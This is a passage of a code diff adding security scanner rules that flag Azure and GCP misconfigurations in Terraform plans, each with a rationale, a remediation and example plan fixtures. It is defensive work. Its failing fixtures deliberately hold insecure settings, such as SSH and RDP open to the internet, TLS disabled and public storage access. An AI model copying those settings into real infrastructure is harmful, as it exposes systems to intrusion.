+               "after": {"name": "acme-old-kv", "sku_name": "standard", "purge_protection_enabled": ↓false, "soft_delete_enabled": ↓false}}}]}
+        """ expect "turns soft delete off (soft_delete_enabled = false)"
+        example indeterminate "setting known only after apply" """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "azurerm_key_vault.main", "mode": "managed", "type": "azurerm_key_vault", "name": "main",
+             "provider_name": "registry.terraform.io/hashicorp/azurerm",
+             "change": {"actions": ["create"], "before": null,
+               "after": {"name": "acme-kv", "sku_name": "standard"},
+               "after_unknown": {"id": true, "vault_uri": true, "purge_protection_enabled": true}}}]}
+        """
+      }
+
+      """#),
+    PolicySource(
+      path: "rules/security/terraform/azure/azure_nsg_admin_ports_open.plumb",
+      text: #"""
+      rule azure_nsg_admin_ports_open {
+        title "Network security groups do not open SSH or RDP to the internet"
+        severity critical
+        category security
+        tags [terraform, azure, network]
+        rationale """
+          An inbound Allow rule from `*`, `0.0.0.0/0`, `Internet` or `Any` to port 22 (SSH) or 3389
+          (RDP) puts the VM's login service on the internet. Both are found by mass scanners within
+          minutes and then brute-forced or hit with the next remote-code-execution bug (BlueKeep,
+          regreSSHion); RDP exposed this way is a leading entry point for ransomware. Ranges such as
+          `20-25` or `*` open the port as surely as naming it.
+        """
+        remediation """
+          Restrict `source_address_prefix(es)` of the rule (in `azurerm_network_security_rule` or the
+          group's inline `security_rule`) to your VPN or office ranges, or remove the rule and use Azure
+          Bastion or just-in-time VM access instead.
+        """
+        param admin_ports: list<int> = [22, 3389]
+        param internet_sources: list<string> = ["*", "0.0.0.0/0", "0.0.0.0", "::/0", "internet", "any"]
+        param protocols: list<string> = ["tcp", "*", "any"]
+
+        for r in terraform.resource("azurerm_network_security_rule", "azurerm_network_security_group")
+        when not is_null(r.after)
+        # A group whose rules are all separate azurerm_network_security_rule resources has a computed
+        # `security_rule`: those resources are judged on their own.
+        when not (is_unknown(r.after.security_rule) and exists(r.config) and not exists(r.config.security_rule))
+        # A group's inline rules, or the standalone rule itself.
+        let rules = default(r.after.security_rule, [r.after])
+        let inbound = filter(x in rules, lower(x.direction) == "inbound" and lower(x.access) == "allow"
+          and lower(x.protocol) in param.protocols
+          and any(s in flatten([[x.source_address_prefix], default(x.source_address_prefixes, [])]), lower(trim(s)) in param.internet_sources))
+        # Destination ports are "22", "20-25" or "*", in destination_port_range or destination_port_ranges.
+        let pairs = flatten(map(x in inbound, map(p in param.admin_ports, {
+          entry: x,
+          port: p,
+          source: first(filter(s in flatten([[x.source_address_prefix], default(x.source_address_prefixes, [])]), lower(trim(s)) in param.internet_sources)),
+          spec: first(filter(s in flatten([[x.destination_port_range], default(x.destination_port_ranges, [])]),
+            trim(s) == "*" or to_int(s) == p or (to_int(split(s, "-")[0]) <= p and p <= to_int(split(s, "-")[1]))))})))
+        let exposures = filter(e in pairs, not is_empty(e.spec))
+        require count(exposures) == 0
+          else "'${r.address}' allows ${join(map(e in exposures, "port " + to_string(e.port) + " from '" + to_string(e.source) + "' (rule '" + to_string(e.entry.name) + "', destination ports '" + to_string(e.spec) + "')"), ", ")}"
+          at first(exposures).spec
+
+        example pass "restricted sources and other ports" """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "azurerm_network_security_group.web", "mode": "managed", "type": "azurerm_network_security_group", "name": "web",
+             "provider_name": "registry.terraform.io/hashicorp/azurerm",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true},
+               "after": {"name": "web-nsg", "security_rule": [
+                 {"name": "https", "priority": 100, "direction": "Inbound", "access": "Allow", "protocol": "Tcp",
+                  "source_address_prefix": "Internet", "source_address_prefixes": [], "destination_port_range": "443", "destination_port_ranges": []},
+                 {"name": "ssh-vpn", "priority": 110, "direction": "Inbound", "access": "Allow", "protocol": "Tcp",
+                  "source_address_prefix": "", "source_address_prefixes": ["10.20.0.0/16"], "destination_port_range": "22", "destination_port_ranges": []},
+                 {"name": "deny-rdp", "priority": 120, "direction": "Inbound", "access": "Deny", "protocol": "*",
+                  "source_address_prefix": "*", "source_address_prefixes": [], "destination_port_range": "3389", "destination_port_ranges": []}]}}},
+            {"address": "azurerm_network_security_rule.mgmt", "mode": "managed", "type": "azurerm_network_security_rule", "name": "mgmt",
+             "provider_name": "registry.terraform.io/hashicorp/azurerm",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true},
+               "after": {"name": "mgmt", "priority": 200, "direction": "Inbound", "access": "Allow", "protocol": "Tcp",
+                         "source_address_prefix": "*", "source_address_prefixes": null,
+                         "destination_port_range": null, "destination_port_ranges": ["80", "8000-8080"]}}}]}
+        """
+        example pass "group whose rules are separate resources" """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "azurerm_network_security_group.web", "mode": "managed", "type": "azurerm_network_security_group", "name": "web",
+             "provider_name": "registry.terraform.io/hashicorp/azurerm",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true, "security_rule": true},
+               "after": {"name": "web-nsg"}}}],
+           "configuration": {"root_module": {"resources": [
+            {"address": "azurerm_network_security_group.web", "mode": "managed", "type": "azurerm_network_security_group", "name": "web",
+             "expressions": {"name": {"constant_value": "web-nsg"}}}]}}}
+        """
+        example fail "inline rule from any source to all ports" """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "azurerm_network_security_group.jump", "mode": "managed", "type": "azurerm_network_security_group", "name": "jump",
+             "provider_name": "registry.terraform.io/hashicorp/azurerm",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true},
+               "after": {"name": "jump-nsg", "security_rule": [
+                 {"name": "anything", "priority": 100, "direction": "Inbound", "access": "Allow", "protocol": "Tcp",
+                  "source_address_prefix": "*", "source_address_prefixes": [], "destination_port_range": ↓"*", "destination_port_ranges": []}]}}}]}
+        """ expect "'azurerm_network_security_group.jump' allows port 22 from '*' (rule 'anything', destination ports '*'), port 3389 from '*'"
+        example fail "standalone rule with a port range list" """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "azurerm_network_security_rule.ops", "mode": "managed", "type": "azurerm_network_security_rule", "name": "ops",
+             "provider_name": "registry.terraform.io/hashicorp/azurerm",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true},
+               "after": {"name": "ops", "priority": 100, "direction": "Inbound", "access": "Allow", "protocol": "Tcp",
+                         "source_address_prefix": null, "source_address_prefixes": ["10.0.0.0/8", "0.0.0.0/0"],
+                         "destination_port_range": null, "destination_port_ranges": ["443", ↓"20-25"]}}}]}
+        """ expect "allows port 22 from '0.0.0.0/0' (rule 'ops', destination ports '20-25')"
+        example fail "standalone rule from the Internet tag" """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "azurerm_network_security_rule.rdp", "mode": "managed", "type": "azurerm_network_security_rule", "name": "rdp",
+             "provider_name": "registry.terraform.io/hashicorp/azurerm",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true},
+               "after": {"name": "rdp", "priority": 100, "direction": "Inbound", "access": "Allow", "protocol": "*",
+                         "source_address_prefix": "Internet", "source_address_prefixes": null,
+                         "destination_port_range": ↓"3389", "destination_port_ranges": null}}}]}
+        """ expect "allows port 3389 from 'Internet'"
+        example indeterminate "source known only after apply" """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "azurerm_network_security_rule.ssh", "mode": "managed", "type": "azurerm_network_security_rule", "name": "ssh",
+             "provider_name": "registry.terraform.io/hashicorp/azurerm",
+             "change": {"actions": ["create"], "before": null,
+               "after": {"name": "ssh", "priority": 100, "direction": "Inbound", "access": "Allow", "protocol": "Tcp",
+                         "source_address_prefixes": null, "destination_port_range": "22", "destination_port_ranges": null},
+               "after_unknown": {"id": true, "source_address_prefix": true}}}]}
+        """
+      }
+
+      """#),
+    PolicySource(
+      path: "rules/security/terraform/azure/azure_sql_server_min_tls_below_1_2.plumb",
+      text: #"""
+      rule azure_sql_server_min_tls_below_1_2 {
+        title "Azure SQL servers require TLS 1.2 or later"
+        severity medium
+        category security
+        tags [terraform, azure, sql, tls]
+        rationale """
+          `minimum_tls_version` below 1.2 (or `Disabled`, which accepts any version) lets clients and
+          downgrading attackers use TLS 1.0 and 1.1, whose weaknesses expose the login exchange and the
+          query traffic. Azure SQL retires TLS 1.0/1.1 support; configurations that still allow them
+          also fail PCI DSS and Microsoft's security baseline.
+        """
+        remediation "Set `minimum_tls_version = \"1.2\"` on the `azurerm_mssql_server` after checking that client drivers support it."
+        param weak_versions: list<string> = ["1.0", "1.1", "Disabled"]
+
+        for s in terraform.resource("azurerm_mssql_server", "azurerm_sql_server")
+        when not is_null(s.after)
+        require s.after.minimum_tls_version not in param.weak_versions
+          else "'${s.address}' accepts TLS below 1.2 (minimum_tls_version = '${s.after.minimum_tls_version}')"
+          at s.after.minimum_tls_version
+
+        example pass """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "azurerm_mssql_server.db", "mode": "managed", "type": "azurerm_mssql_server", "name": "db",
+             "provider_name": "registry.terraform.io/hashicorp/azurerm",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true},
+               "after": {"name": "acme-sql", "version": "12.0", "minimum_tls_version": "1.2"}}}]}
+        """
+        example fail """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "azurerm_mssql_server.db", "mode": "managed", "type": "azurerm_mssql_server", "name": "db",
+             "provider_name": "registry.terraform.io/hashicorp/azurerm",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true},
+               "after": {"name": "acme-sql", "version": "12.0", "minimum_tls_version": ↓"Disabled"}}}]}
+        """ expect "'azurerm_mssql_server.db' accepts TLS below 1.2 (minimum_tls_version = 'Disabled')"
+        example indeterminate "version known only after apply" """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "azurerm_mssql_server.db", "mode": "managed", "type": "azurerm_mssql_server", "name": "db",
+             "provider_name": "registry.terraform.io/hashicorp/azurerm",
+             "change": {"actions": ["create"], "before": null,
+               "after": {"name": "acme-sql", "version": "12.0"}, "after_unknown": {"id": true, "minimum_tls_version": true}}}]}
+        """
+      }
+
+      """#),
+    PolicySource(
+      path: "rules/security/terraform/azure/azure_sql_server_public_network_access.plumb",
+      text: #"""
+      rule azure_sql_server_public_network_access {
+        title "Azure SQL servers do not expose a public endpoint"
+        severity medium
+        category security
+        tags [terraform, azure, sql, network]
+        rationale """
+          With public network access enabled, the server's endpoint (`*.database.windows.net`) accepts
+          connections from the internet, limited only by its firewall rules; one broad rule (or "Allow
+          Azure services", which admits every Azure tenant) then exposes the login to password spraying
+          and any SQL authentication weakness. Private endpoints keep the server off the internet
+          altogether. azurerm enables public access unless told otherwise.
+        """
+        remediation """
+          Set `public_network_access_enabled = false` on the `azurerm_mssql_server` and connect through an
+          `azurerm_private_endpoint` (or a VNet rule) instead of firewall rules.
+        """
+
+        for s in terraform.resource("azurerm_mssql_server", "azurerm_sql_server")
+        when not is_null(s.after)
+        require s.after.public_network_access_enabled != true
+          else "'${s.address}' accepts connections from the internet (public_network_access_enabled = true)"
+          at s.after.public_network_access_enabled
+
+        example pass """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "azurerm_mssql_server.db", "mode": "managed", "type": "azurerm_mssql_server", "name": "db",
+             "provider_name": "registry.terraform.io/hashicorp/azurerm",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true, "fully_qualified_domain_name": true},
+               "after": {"name": "acme-sql", "version": "12.0", "public_network_access_enabled": false, "minimum_tls_version": "1.2"}}}]}
+        """
+        example fail """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "azurerm_mssql_server.db", "mode": "managed", "type": "azurerm_mssql_server", "name": "db",
+             "provider_name": "registry.terraform.io/hashicorp/azurerm",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true, "fully_qualified_domain_name": true},
+               "after": {"name": "acme-sql", "version": "12.0", "public_network_access_enabled": ↓true, "minimum_tls_version": "1.2"}}}]}
+        """ expect "'azurerm_mssql_server.db' accepts connections from the internet"
+        example indeterminate "setting known only after apply" """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "azurerm_mssql_server.db", "mode": "managed", "type": "azurerm_mssql_server", "name": "db",
+             "provider_name": "registry.terraform.io/hashicorp/azurerm",
+             "change": {"actions": ["create"], "before": null,
+               "after": {"name": "acme-sql", "version": "12.0"},
+               "after_unknown": {"id": true, "fully_qualified_domain_name": true, "public_network_access_enabled": true}}}]}
+        """
+      }
+
+      """#),
+    PolicySource(
+      path: "rules/security/terraform/azure/azure_storage_blob_public_access.plumb",
+      text: #"""
+      rule azure_storage_blob_public_access {
+        title "Storage accounts do not allow public blob access"
+        severity high
+        category security
+        tags [terraform, azure, storage, public-access]
+        rationale """
+          When a storage account allows public blob access (`allow_nested_items_to_be_public`, called
+          `allow_blob_public_access` before azurerm 3.0), a single container set to `blob` or
+          `container` access serves its files to anyone with the URL, without a key or a token; container
+          listing even hands out the names. Scanners enumerate `*.blob.core.windows.net` continuously, and
+          leaked backups and exports are found this way. azurerm 3.x allows it by default, so an account
+          that does not say otherwise is exposed.
+        """
+        remediation """
+          Set `allow_nested_items_to_be_public = false` on the `azurerm_storage_account` (azurerm 2.x:
+          `allow_blob_public_access = false`). Serve public content through a CDN or SAS tokens with an
+          expiry instead of anonymous container access.
+        """
+
+        for sa in terraform.resource("azurerm_storage_account")
+        # Resources being destroyed have no planned state.
+        when not is_null(sa.after)
+        require sa.after.allow_nested_items_to_be_public != true
+          else "'${sa.address}' lets containers be made public (allow_nested_items_to_be_public = true)"
+          at sa.after.allow_nested_items_to_be_public
+        require sa.after.allow_blob_public_access != true
+          else "'${sa.address}' allows public blob access (allow_blob_public_access = true)"
+          at sa.after.allow_blob_public_access
+
+        example pass """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "azurerm_storage_account.logs", "mode": "managed", "type": "azurerm_storage_account", "name": "logs",
+             "provider_name": "registry.terraform.io/hashicorp/azurerm",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true},
+               "after": {"name": "acmelogs", "allow_nested_items_to_be_public": false, "min_tls_version": "TLS1_2"}}}]}
+        """
+        example pass "azurerm 2.x, public access off" """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "azurerm_storage_account.logs", "mode": "managed", "type": "azurerm_storage_account", "name": "logs",
+             "provider_name": "registry.terraform.io/hashicorp/azurerm",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true},
+               "after": {"name": "acmelogs", "allow_blob_public_access": false}}}]}
+        """
+        example fail "azurerm 3.x default" """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "azurerm_storage_account.assets", "mode": "managed", "type": "azurerm_storage_account", "name": "assets",
+             "provider_name": "registry.terraform.io/hashicorp/azurerm",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true},
+               "after": {"name": "acmeassets", "allow_nested_items_to_be_public": ↓true}}}]}
+        """ expect "'azurerm_storage_account.assets' lets containers be made public"
+        example fail "azurerm 2.x" """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "azurerm_storage_account.assets", "mode": "managed", "type": "azurerm_storage_account", "name": "assets",
+             "provider_name": "registry.terraform.io/hashicorp/azurerm",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true},
+               "after": {"name": "acmeassets", "allow_blob_public_access": ↓true}}}]}
+        """ expect "allows public blob access (allow_blob_public_access = true)"
+        example indeterminate "setting known only after apply" """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "azurerm_storage_account.assets", "mode": "managed", "type": "azurerm_storage_account", "name": "assets",
+             "provider_name": "registry.terraform.io/hashicorp/azurerm",
+             "change": {"actions": ["create"], "before": null,
+               "after": {"name": "acmeassets"}, "after_unknown": {"id": true, "allow_nested_items_to_be_public": true}}}]}
+        """
+      }
+
+      """#),
+    PolicySource(
+      path: "rules/security/terraform/azure/azure_storage_infrastructure_encryption_disabled.plumb",
+      text: #"""
+      rule azure_storage_infrastructure_encryption_disabled {
+        title "Storage accounts use infrastructure (double) encryption"
+        severity low
+        category security
+        tags [terraform, azure, storage, "encryption-at-rest"]
+        rationale """
+          Azure encrypts every storage account at the service level. Infrastructure encryption adds a
+          second, independent layer with a different algorithm mode and key at the hardware level, so a
+          flaw or a compromised key in one layer does not expose the data; CIS Azure 3.2 and several
+          regulated workloads require it. It can only be chosen when the account is created: turning it
+          on later means creating a new account and copying the data.
+        """
+        remediation """
+          Set `infrastructure_encryption_enabled = true` on new `azurerm_storage_account` resources
+          (it forces a replacement on existing ones: plan a migration).
+        """
+
+        for sa in terraform.resource("azurerm_storage_account")
+        when not is_null(sa.after)
+        # Missing in azurerm versions before 2.70, which cannot set it.
+        require sa.after.infrastructure_encryption_enabled != false
+          else "'${sa.address}' has no infrastructure encryption (infrastructure_encryption_enabled = false)"
+          at sa.after.infrastructure_encryption_enabled
+
+        example pass """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "azurerm_storage_account.ledger", "mode": "managed", "type": "azurerm_storage_account", "name": "ledger",
+             "provider_name": "registry.terraform.io/hashicorp/azurerm",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true},
+               "after": {"name": "acmeledger", "infrastructure_encryption_enabled": true}}}]}
+        """
+        example fail """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "azurerm_storage_account.ledger", "mode": "managed", "type": "azurerm_storage_account", "name": "ledger",
+             "provider_name": "registry.terraform.io/hashicorp/azurerm",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true},
+               "after": {"name": "acmeledger", "infrastructure_encryption_enabled": ↓false}}}]}
+        """ expect "'azurerm_storage_account.ledger' has no infrastructure encryption"
+        example indeterminate "setting known only after apply" """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "azurerm_storage_account.ledger", "mode": "managed", "type": "azurerm_storage_account", "name": "ledger",
+             "provider_name": "registry.terraform.io/hashicorp/azurerm",
+             "change": {"actions": ["create"], "before": null,
+               "after": {"name": "acmeledger"}, "after_unknown": {"id": true, "infrastructure_encryption_enabled": true}}}]}
+        """
+      }
+
+      """#),
+    PolicySource(
+      path: "rules/security/terraform/azure/azure_storage_min_tls_below_1_2.plumb",
+      text: #"""
+      rule azure_storage_min_tls_below_1_2 {
+        title "Storage accounts require TLS 1.2 or later"
+        severity medium
+        category security
+        tags [terraform, azure, storage, tls]
+        rationale """
+          TLS 1.0 and 1.1 have known weaknesses (BEAST, weak CBC and SHA-1 constructions) and are no
+          longer accepted by PCI DSS or Microsoft's own baseline. A storage account whose minimum is
+          below 1.2 lets a client, or an attacker downgrading the connection, use them for the traffic
+          that carries account keys, SAS tokens and data. azurerm 2.x defaulted to `TLS1_0`.
+        """
+        remediation "Set `min_tls_version = \"TLS1_2\"` on the `azurerm_storage_account`."
+        param weak_versions: list<string> = ["TLS1_0", "TLS1_1"]
+
+        for sa in terraform.resource("azurerm_storage_account")
+        when not is_null(sa.after)
+        require sa.after.min_tls_version not in param.weak_versions
+          else "'${sa.address}' accepts '${sa.after.min_tls_version}' (min_tls_version); TLS1_2 is the minimum"
+          at sa.after.min_tls_version
+
+        example pass """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "azurerm_storage_account.logs", "mode": "managed", "type": "azurerm_storage_account", "name": "logs",
+             "provider_name": "registry.terraform.io/hashicorp/azurerm",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true},
+               "after": {"name": "acmelogs", "min_tls_version": "TLS1_2"}}}]}
+        """
+        example fail """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "azurerm_storage_account.logs", "mode": "managed", "type": "azurerm_storage_account", "name": "logs",
+             "provider_name": "registry.terraform.io/hashicorp/azurerm",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true},
+               "after": {"name": "acmelogs", "min_tls_version": ↓"TLS1_0"}}}]}
+        """ expect "'azurerm_storage_account.logs' accepts 'TLS1_0' (min_tls_version)"
+        example indeterminate "version from a value known only after apply" """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "azurerm_storage_account.logs", "mode": "managed", "type": "azurerm_storage_account", "name": "logs",
+             "provider_name": "registry.terraform.io/hashicorp/azurerm",
+             "change": {"actions": ["create"], "before": null,
+               "after": {"name": "acmelogs"}, "after_unknown": {"id": true, "min_tls_version": true}}}]}
+        """
+      }
+
+      """#),
+    PolicySource(
+      path: "rules/security/terraform/azure/azure_storage_public_network_access.plumb",
+      text: #"""
+      rule azure_storage_public_network_access {
+        title "Storage accounts are not reachable from every network"
+        severity medium
+        category security
+        tags [terraform, azure, storage, network]
+        rationale """
+          A storage account with public network access enabled and a default network action of `Allow`
+          answers every IP address on the internet. Its data is then protected by keys and SAS tokens
+          alone: one leaked connection string or token (in a repository, a log, a build artifact) is
+          enough to read or overwrite it from anywhere. Denying by default and allowing named networks,
+          subnets or private endpoints makes a leaked credential useless outside them.
+        """
+        remediation """
+          Add `network_rules { default_action = "Deny" … }` (or an `azurerm_storage_account_network_rules`
+          resource) with the `ip_rules` and `virtual_network_subnet_ids` that need access, or set
+          `public_network_access_enabled = false` and reach the account through a private endpoint.
+        """
+
+        for sa in terraform.resource("azurerm_storage_account")
+        when not is_null(sa.after)
+        # Missing before azurerm 3.x, where public network access could not be turned off.
+        let public = default(sa.after.public_network_access_enabled, true)
+        # `network_rules` is computed when the block is not written: the default action is then Allow.
+        let inline = sa.after.network_rules
+        let inline_unset = is_unknown(inline) and exists(sa.config) and not exists(sa.config.network_rules)
+        let inline_deny = not inline_unset and any(n in inline, n.default_action == "Deny")
+        # A separate azurerm_storage_account_network_rules resource for this account, in the same module.
+        let ref = "azurerm_storage_account." + sa.name
+        let separate = filter(n in terraform.resource("azurerm_storage_account_network_rules")[mode == "managed" and file(it) == file(sa) and to_string(module) == to_string(sa.module)],
+          ref in n.config.storage_account_id.references or ref in n.config.storage_account_name.references
+            or (known(sa.after.name) and n.after.storage_account_name == sa.after.name))
+        let separate_deny = any(n in separate, n.after.default_action == "Deny")
+        require public == false or inline_deny or separate_deny
+          else "'${sa.address}' accepts connections from any network: public network access is enabled and the default network action is not Deny"
+          at first(filter(x in [first(inline).default_action, sa.after.public_network_access_enabled], known(x) and exists(x)))
+
+        example pass "deny by default" """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "azurerm_storage_account.data", "mode": "managed", "type": "azurerm_storage_account", "name": "data",
+             "provider_name": "registry.terraform.io/hashicorp/azurerm",
+             "change": {"actions": ["create"], "before": null,
+               "after": {"name": "acmedata", "public_network_access_enabled": true,
+                         "network_rules": [{"default_action": "Deny", "ip_rules": ["203.0.113.0/24"]}]},
+               "after_unknown": {"id": true, "network_rules": [{"bypass": true, "ip_rules": [false], "virtual_network_subnet_ids": true}]}}}]}
+        """
+        example pass "public network access off" """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "azurerm_storage_account.data", "mode": "managed", "type": "azurerm_storage_account", "name": "data",
+             "provider_name": "registry.terraform.io/hashicorp/azurerm",
+             "change": {"actions": ["create"], "before": null,
+               "after": {"name": "acmedata", "public_network_access_enabled": false},
+               "after_unknown": {"id": true, "network_rules": true}}}]}
+        """
+        example pass "separate network rules resource" """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "azurerm_storage_account.data", "mode": "managed", "type": "azurerm_storage_account", "name": "data",
+             "provider_name": "registry.terraform.io/hashicorp/azurerm",
+             "change": {"actions": ["create"], "before": null,
+               "after": {"name": "acmedata", "public_network_access_enabled": true},
+               "after_unknown": {"id": true, "network_rules": true}}},
+            {"address": "azurerm_storage_account_network_rules.data", "mode": "managed", "type": "azurerm_storage_account_network_rules", "name": "data",
+             "provider_name": "registry.terraform.io/hashicorp/azurerm",
+             "change": {"actions": ["create"], "before": null,
+               "after": {"default_action": "Deny", "ip_rules": []},
+               "after_unknown": {"id": true, "storage_account_id": true}}}],
+           "configuration": {"root_module": {"resources": [
+            {"address": "azurerm_storage_account.data", "mode": "managed", "type": "azurerm_storage_account", "name": "data",
+             "expressions": {"name": {"constant_value": "acmedata"}}},
+            {"address": "azurerm_storage_account_network_rules.data", "mode": "managed", "type": "azurerm_storage_account_network_rules", "name": "data",
+             "expressions": {"default_action": {"constant_value": "Deny"},
+                             "storage_account_id": {"references": ["azurerm_storage_account.data.id", "azurerm_storage_account.data"]}}}]}}}
+        """
+        example fail "default action Allow" """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "azurerm_storage_account.data", "mode": "managed", "type": "azurerm_storage_account", "name": "data",
+             "provider_name": "registry.terraform.io/hashicorp/azurerm",
+             "change": {"actions": ["create"], "before": null,
+               "after": {"name": "acmedata", "public_network_access_enabled": true,
+                         "network_rules": [{"default_action": ↓"Allow"}]},
+               "after_unknown": {"id": true, "network_rules": [{"bypass": true, "ip_rules": true, "virtual_network_subnet_ids": true}]}}}]}
+        """ expect "'azurerm_storage_account.data' accepts connections from any network"
+        example fail "no network rules written" """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "azurerm_storage_account.data", "mode": "managed", "type": "azurerm_storage_account", "name": "data",
+             "provider_name": "registry.terraform.io/hashicorp/azurerm",
+             "change": {"actions": ["create"], "before": null,
+               "after": {"name": "acmedata", "public_network_access_enabled": ↓true},
+               "after_unknown": {"id": true, "network_rules": true}}}],
+           "configuration": {"root_module": {"resources": [
+            {"address": "azurerm_storage_account.data", "mode": "managed", "type": "azurerm_storage_account", "name": "data",
+             "expressions": {"name": {"constant_value": "acmedata"}}}]}}}
+        """ expect "public network access is enabled and the default network action is not Deny"
+        example indeterminate "network rules from a dynamic block, known only after apply" """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "azurerm_storage_account.data", "mode": "managed", "type": "azurerm_storage_account", "name": "data",
+             "provider_name": "registry.terraform.io/hashicorp/azurerm",
+             "change": {"actions": ["create"], "before": null,
+               "after": {"name": "acmedata", "public_network_access_enabled": true},
+               "after_unknown": {"id": true, "network_rules": true}}}]}
+        """
+      }
+
+      """#),
+    PolicySource(
+      path: "rules/security/terraform/azure/azure_storage_secure_transport_disabled.plumb",
+      text: #"""
+      rule azure_storage_secure_transport_disabled {
+        title "Storage accounts accept HTTPS only"
+        severity high
+        category security
+        tags [terraform, azure, storage, "encryption-in-transit"]
+        rationale """
+          With secure transfer off, the blob, file, queue and table endpoints also answer plain HTTP (and
+          SMB without encryption). Shared keys, SAS tokens and the data itself then cross the network in
+          clear text, where anyone on the path (a café Wi-Fi, a compromised proxy) can read or replay them.
+        """
+        remediation """
+          Set `https_traffic_only_enabled = true` (azurerm 4.x; `enable_https_traffic_only = true` in
+          earlier versions) on the `azurerm_storage_account`, and move any HTTP client to HTTPS.
+        """
+
+        for sa in terraform.resource("azurerm_storage_account")
+        when not is_null(sa.after)
+        require sa.after.https_traffic_only_enabled != false
+          else "'${sa.address}' accepts unencrypted HTTP (https_traffic_only_enabled = false)"
+          at sa.after.https_traffic_only_enabled
+        require sa.after.enable_https_traffic_only != false
+          else "'${sa.address}' accepts unencrypted HTTP (enable_https_traffic_only = false)"
+          at sa.after.enable_https_traffic_only
+
+        example pass """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "azurerm_storage_account.logs", "mode": "managed", "type": "azurerm_storage_account", "name": "logs",
+             "provider_name": "registry.terraform.io/hashicorp/azurerm",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true},
+               "after": {"name": "acmelogs", "https_traffic_only_enabled": true}}}]}
+        """
+        example fail "azurerm 4.x" """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "azurerm_storage_account.legacy", "mode": "managed", "type": "azurerm_storage_account", "name": "legacy",
+             "provider_name": "registry.terraform.io/hashicorp/azurerm",
+             "change": {"actions": ["update"], "before": {"name": "acmelegacy", "https_traffic_only_enabled": true}, "after_unknown": {},
+               "after": {"name": "acmelegacy", "https_traffic_only_enabled": ↓false}}}]}
+        """ expect "'azurerm_storage_account.legacy' accepts unencrypted HTTP (https_traffic_only_enabled = false)"
+        example fail "azurerm 2.x and 3.x" """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "azurerm_storage_account.legacy", "mode": "managed", "type": "azurerm_storage_account", "name": "legacy",
+             "provider_name": "registry.terraform.io/hashicorp/azurerm",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true},
+               "after": {"name": "acmelegacy", "enable_https_traffic_only": ↓false}}}]}
+        """ expect "(enable_https_traffic_only = false)"
+        example indeterminate "setting known only after apply" """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "azurerm_storage_account.legacy", "mode": "managed", "type": "azurerm_storage_account", "name": "legacy",
+             "provider_name": "registry.terraform.io/hashicorp/azurerm",
+             "change": {"actions": ["create"], "before": null,
+               "after": {"name": "acmelegacy"}, "after_unknown": {"id": true, "https_traffic_only_enabled": true}}}]}
+        """
+      }
+
+      """#),
+    PolicySource(
+      path: "rules/security/terraform/gcp/gcp_bigquery_dataset_public.plumb",
+      text: #"""
+      rule gcp_bigquery_dataset_public {
+        title "BigQuery datasets are not shared with allUsers or allAuthenticatedUsers"
+        severity critical
+        category security
+        tags [terraform, gcp, bigquery, iam, public-access]
+        rationale """
+          A dataset access entry with `special_group = "allAuthenticatedUsers"` or an IAM member
+          `allUsers`/`allAuthenticatedUsers` lets anyone (with any Google account) query every table in
+          the dataset, and bill the queries to nobody but themselves. Datasets hold exactly the data
+          worth stealing: analytics exports, customer records, logs.
+        """
+        remediation """
+          Remove the public entry from the dataset's `access` blocks, from
+          `google_bigquery_dataset_access`, or from the `google_bigquery_dataset_iam_*` resource, and
+          grant `roles/bigquery.dataViewer` to the groups that need it; share public data sets through
+          Analytics Hub instead.
+        """
+        param public_principals: list<string> = ["allUsers", "allAuthenticatedUsers"]
+
+        for d in terraform.resource("google_bigquery_dataset", "google_bigquery_dataset_access",
